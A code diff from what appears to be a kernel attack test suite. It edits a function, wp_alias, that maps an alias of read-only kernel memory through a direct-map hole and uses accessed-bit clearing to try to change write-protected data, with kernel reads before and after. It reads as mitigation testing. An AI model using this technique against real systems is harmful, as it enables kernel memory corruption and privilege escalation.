@@ -8,13 +8,11 @@
 
 #include "addresses.h"
 #include "attack.h"
-#include "chunk.h"
 #include "clear_refs.h"
 #include "list.h"
 #include "objects.h"
 
 #ifdef __x86_64__
-#define LIKE_PART	0x5b
 #define HOLE		(100UL << 30)
 
 static uint64_t find_word_of_rodata(void)
@@ -29,7 +27,6 @@ static uint64_t find_word_of_rodata(void)
 enum outcome wp_alias(void)
 {
 	uint64_t word, before, after, hole = direct_map_base() + HOLE;
-	volatile char *like;
 	struct slot slot;
 	int changed;
 
@@ -38,15 +35,11 @@ enum outcome wp_alias(void)
 	if (!clear_refs_start())
 		return broken("no process that clears accessed bits");
 	stay_on_cpu(0);
-	like = map_small_pages(LIKE_PART, PAGE_SIZE);
-	if (!like)
-		return broken("no page");
-	like[0] = 1;
 	word = find_word_of_rodata();
 	if (!word || kwalk(word, LEAF, 0, &slot))
 		return broken("no word of read-only data looks like an entry");
 	before = kread64(word);
-	if (!map_address(like, hole, slot.phys & -PAGE_SIZE, PTE_KERNEL_RW & ~PTE_RW & ~PTE_DIRTY))
+	if (!map_address(hole, slot.phys & -PAGE_SIZE, PTE_KERNEL_RW & ~PTE_RW & ~PTE_DIRTY))
 		return lost("the hole of the direct map leads to no read-only data");
 	changed = clear_refs_at(hole + word % PAGE_SIZE);
 	after = kread64(word);
